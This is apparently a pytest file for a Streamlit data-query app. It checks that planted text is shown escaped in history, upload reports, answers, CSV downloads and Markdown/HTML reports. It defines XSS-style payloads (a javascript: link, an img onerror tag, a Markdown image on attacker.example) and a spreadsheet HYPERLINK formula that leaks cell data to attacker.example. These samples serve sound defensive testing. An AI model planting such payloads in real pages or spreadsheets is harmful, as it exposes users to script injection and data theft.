"""Text from questions, files, models and history is shown as written: no image, link or HTML tag it plants is live.

Each test plants the same three payloads (a Markdown image that a browser would fetch, a javascript: link and
an HTML tag) in one place the app shows, and checks every text element on the page: none holds live markup,
while the words themselves still read exactly as planted.
"""
from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from query_engine.datasets.catalogue import DatasetCatalog
from query_engine.pipeline import Pipeline
from query_engine.reports.builder import (
    ReportItem,
    build_report,
    report_html,
    report_markdown,
)
from query_engine.settings import Settings
from query_engine.spec.safe_text import (
    WORD_JOINER,
    code_fence,
    code_span,
    escape_markdown,
)
from query_engine.stores.history import HistoryEntry, QuestionHistory
from tests.app_driving import ask

IMG = "![x](http://attacker.example/x.png)"
LINK = "[x](javascript:alert(1))"
TAG = "<img src=x onerror=alert(1)>"
PAYLOADS = (IMG, LINK, TAG)
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
CAMPAIGNS = (LINK, TAG, "Q4_Sale (EU) #2", FORMULA, IMG)  # by spend: the link smallest, the image largest
ESCAPED_PUNCTUATION = r"\\[!-/:-@\[-`{-~]"


def visible(value: str) -> str:
    """What Markdown shows for `value`: backslash escapes and entities resolved, word joiners invisible."""
    return html.unescape(re.sub(ESCAPED_PUNCTUATION, lambda m: m.group(0)[1], value)).replace(WORD_JOINER, "")


def live_markup(value: str) -> list[str]:
    """Pieces of `value` Markdown would turn into an image, a link or an HTML tag."""
    bare = re.sub(ESCAPED_PUNCTUATION, "", value)  # escaped punctuation is plain text
    return (re.findall(r"[\[\]]", bare) + re.findall(r"(?i)<\s*/?\s*(?:img|a|script|iframe|svg)\b", bare)
            + re.findall(r"(?i)https?://|www\.", bare))  # bare addresses, which GFM would link


def shown_texts(at: AppTest) -> list[str]:
    """Every text on the page that Streamlit renders as Markdown: bodies, alerts, labels, options, metrics."""
    texts = [e.value for kind in ("markdown", "caption", "title", "header", "subheader", "info", "warning", "error",
                                  "success") for e in getattr(at, kind)]
    texts += [w.label for kind in ("button", "checkbox", "selectbox", "multiselect", "radio", "text_input",
                                   "text_area", "expander", "tabs", "metric", "date_input", "number_input", "status")
              for w in getattr(at, kind)]
    texts += [str(m.value) for m in at.metric] + [o for r in at.radio for o in r.options]
    texts += [d.proto.label for d in at.get("download_button")] + [p.proto.text for p in at.get("progress")]
    return texts


def assert_shown_as_written(at: AppTest, planted: tuple[str, ...]) -> None:
    """No text on the page holds live markup, and each planted text reads exactly as written."""
    assert not at.exception
    texts = shown_texts(at)
    live = {text: live_markup(text) for text in texts if live_markup(text)}
    assert not live, live
    shown = "\n".join(visible(t) for t in texts)
    missing = [p for p in planted if p not in shown]
    assert not missing, (missing, shown)


def attack_csv() -> bytes:
    """Campaign values and column headers carrying the payloads (a dimension and a measure header).

    The measure has many distinct values (a few small whole numbers would read as a code, a dimension) and is
    the second metric after Spend, so the dataset's own suggestions name it ("Monthly <header> trend")."""
    rows = [["Campaign", "Day", "Spend", TAG, IMG]]
    for day in range(30):
        for i, name in enumerate(CAMPAIGNS, start=1):
            date = dt.date(2025, 1, 1) + dt.timedelta(days=day)
            rows.append([name, date.isoformat(), str(10 * i + day % 3), ("Brand", "Promo")[i % 2],
                         str(97 * i + 13 * day)])
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


@pytest.fixture
def attack(clarify_home, demo_db, tmp_path) -> DatasetCatalog:
    """The catalogue with the attack file added as the dataset 'attack'."""
    path = tmp_path / "attack.csv"
    path.write_bytes(attack_csv())
    catalog = DatasetCatalog(clarify_home, demo_db)
    assert catalog.add_file(path).dataset.name == "attack"
    return catalog


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """The bytes of every download button the app offers, by file name."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    offered: dict[str, bytes] = {}
    real_add = MediaFileManager.add

    def recording_add(self, path_or_data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        if file_name and isinstance(path_or_data, bytes):
            offered[file_name] = path_or_data
        return real_add(self, path_or_data, mimetype, coordinates, file_name, is_for_static_download)

    monkeypatch.setattr(MediaFileManager, "add", recording_add)
    return offered


def on_attack_dataset(app: AppTest) -> AppTest:
    """The Ask page on the attack dataset (a rerun first, so the selector lists a dataset added after the start)."""
    at = app.run().selectbox(key="ask.dataset").set_value("attack").run()
    assert not at.exception
    return at


@pytest.mark.parametrize("text, shown", [
    ("Q4_Sale (EU) #2", "Q4_Sale (EU) #2"),  # reads naturally: nothing in it needs escaping
    ("spend_usd by campaign", "spend_usd by campaign"),
    ("$5,000 to $6,000", r"\$5,000 to \$6,000"),  # never a LaTeX formula
    (IMG, "!\\[x\\](http" + WORD_JOINER + "://attacker.example/x.png)"),
    (LINK, r"\[x\](javascript:alert(1))"),
    (TAG, "&lt;img src=x onerror=alert(1)&gt;"),
    ("_new_ **bold** ~gone~ `code` a|b", r"\_new\_ \*\*bold\*\* \~gone\~ \`code\` a\|b"),
    ("# Title\n- item\n1. first", r"\# Title - item 1. first"),
    (":red[alarm] me@example.com www.example.com", ":red\\[alarm\\] me@" + WORD_JOINER + "example.com www"
     + WORD_JOINER + ".example.com"),
    ("&lt;b&gt; and \\[", "&amp;lt;b&amp;gt; and \\\\\\["),
])
def test_escape_markdown_shows_the_text_as_written(text, shown):
    assert escape_markdown(text) == shown
    assert live_markup(escape_markdown(text)) == []
    assert visible(escape_markdown(text)) == re.sub(r"\s*\n\s*", " ", text)


def test_escape_markdown_multiline_keeps_lines_but_no_block_syntax():
    escaped = escape_markdown("# Head\n- item\n2) two\n---\n> quote", multiline=True)
    assert escaped == "\\# Head\n\\- item\n2\\) two\n\\---\n&gt; quote"


def test_code_span_and_fence_hold_backticks_verbatim():
    assert code_span("spend_usd") == "`spend_usd`"
    assert code_span("a`b") == "``a`b``"
    assert code_fence("SELECT '```' AS x", "sql") == ["````sql", "SELECT '```' AS x", "````"]


def test_history_shows_planted_questions_and_fields_as_written(app, clarify_home):
    store = QuestionHistory.in_home(clarify_home)
    for payload in PAYLOADS:
        change = {"field": "filters", "from": [], "to": [{"dimension": "campaign", "values": [payload], "op": "in"}]}
        store.add(HistoryEntry(question=payload, picked_rank=1, reading_text=f"Spend for {payload}",
                               adjustments_json=json.dumps([change]), sql="SELECT 1", error=f"failed on {payload}",
                               sql_source="edited by the analyst"))
        store.add(HistoryEntry(question=f"delete {payload}", refusal=f"Clarify only reads {payload}"))
    at = app.switch_page("pages/history.py").run()
    assert_shown_as_written(at, PAYLOADS + tuple(f"Spend for {p}" for p in PAYLOADS)
                            + tuple(f"refused: Clarify only reads {p}" for p in PAYLOADS)
                            + tuple(f"only campaign {p}" for p in PAYLOADS))
    questions = [visible(m.value) for m in at.markdown]
    assert all(f"**{p}**" in questions for p in PAYLOADS)


def test_upload_report_shows_planted_headers_as_written(app):
    at = app.switch_page("pages/data.py").run()
    uploader = next(u for u in at.file_uploader if u.key.startswith("data.upload."))
    at = uploader.set_value(("attack.csv", attack_csv(), "text/csv")).run()
    assert_shown_as_written(at, (f"Renamed “{TAG}”", f"Renamed “{IMG}”", "Added dataset **attack** from attack.csv"))


def test_answer_insights_and_readings_show_planted_campaign_names_as_written(app, attack):
    at = ask(on_attack_dataset(app), "spend by campaign")
    assert_shown_as_written(at, (f"{IMG} had the largest Spend", f"{LINK} had the smallest"))
    insights = next(m.value for m in at.markdown if m.value.startswith("**Insights**"))
    assert "Q4_Sale (EU) #2" not in insights  # only the two extremes are named ...
    assert re.findall(r"(?<!\\)\$", insights) == []  # ... and no dollar amount starts a LaTeX formula
    assert "\\$" in insights


def test_answer_csv_download_neutralises_planted_formulas(app, attack, downloads):
    at = ask(on_attack_dataset(app), "spend by campaign")
    assert not at.exception
    rows = list(csv.reader(io.StringIO(downloads["clarify_result.csv"].decode("utf-8"))))
    spend = {row[0]: float(row[1]) for row in rows[1:]}
    assert spend["'" + FORMULA] == sum(40 + d % 3 for d in range(30))  # the formula is text; its spend a number
    assert spend[IMG] == sum(50 + d % 3 for d in range(30))


def test_refusal_and_suggestions_show_planted_headers_as_written(app, attack):
    at = ask(on_attack_dataset(app), "spend by galaxy")
    assert_shown_as_written(at, (f"You can group by campaign, {TAG}", f"Monthly {IMG} (average) trend"))
    refusal = next(w.value for w in at.warning if "can't answer" in w.value)
    assert refusal.startswith("**Clarify can't answer this.**")


def test_reading_cards_of_a_suggested_question_show_planted_headers_as_written(app, attack, clarify_home):
    at = ask(on_attack_dataset(app), "spend by galaxy")
    number = next(int(b.key.rsplit(".", 1)[1]) for b in at.button
                  if b.key and b.key.startswith("ask.suggest.") and IMG in visible(b.label))
    at = at.button(key=f"ask.suggest.{number}").click().run()
    cards = [visible(m.value) for m in at.markdown if m.value.startswith("**Reading ")]
    assert cards and all(IMG in card for card in cards)
    assert_shown_as_written(at, (IMG,))
    asked = QuestionHistory.in_home(clarify_home).list()
    assert f"Monthly {IMG} (average) trend" in [e.question for e in asked]  # stored as typed, shown escaped
    assert_shown_as_written(at.switch_page("pages/history.py").run(), (f"**Monthly {IMG} (average) trend**",))


class Tags(HTMLParser):
    """The start tags and text of an HTML page (script bodies are data, as browsers read them)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def attack_report(attack, clarify_home):
    """A report on 'spend by campaign' over the attack dataset, asked with the payloads as the question."""
    dataset = attack.get("attack")
    pipeline = Pipeline.open(Settings(home=clarify_home), dataset.database, model_path=dataset.model_path)
    try:
        reading = pipeline.understand("spend by campaign").interpretations[0]
        item = ReportItem(" ".join(PAYLOADS), pipeline.answer(reading), reading)
    finally:
        pipeline.close()
    return build_report([item], title=TAG)


def test_markdown_report_shows_planted_text_as_written(attack_report):
    markdown = report_markdown(attack_report)
    lines = markdown.splitlines()
    fence = lines.index("```sql")
    prose = lines[:fence] + lines[lines.index("```", fence):]
    assert {line: live_markup(line) for line in prose if live_markup(line)} == {}
    shown = visible("\n".join(prose))
    assert f"## 1. {' '.join(PAYLOADS)}" in shown and f"# {TAG}" in shown
    assert all(f"| {name} |" in shown for name in CAMPAIGNS)  # every campaign in the table, one per row
    assert f"{IMG} had the largest Spend" in shown


def test_html_report_shows_planted_text_as_written(attack_report):
    page = Tags()
    page.feed(report_html(attack_report))
    assert not {"img", "a", "iframe"} & set(page.tags)
    text = "".join(page.text)
    assert all(name in text for name in CAMPAIGNS) and " ".join(PAYLOADS) in text


def test_every_ui_module_escapes_through_the_one_function():
    root = Path(__file__).resolve().parent.parent
    sources = {p.name: p.read_text(encoding="utf-8") for p in [*root.glob("ui/*.py"), *root.glob("pages/*.py")]}
    assert not [n for n, s in sources.items() if "unsafe_allow_html" in s]
    assert not [n for n, s in sources.items() if re.search(r"def escape_markdown|html\.escape", s)]
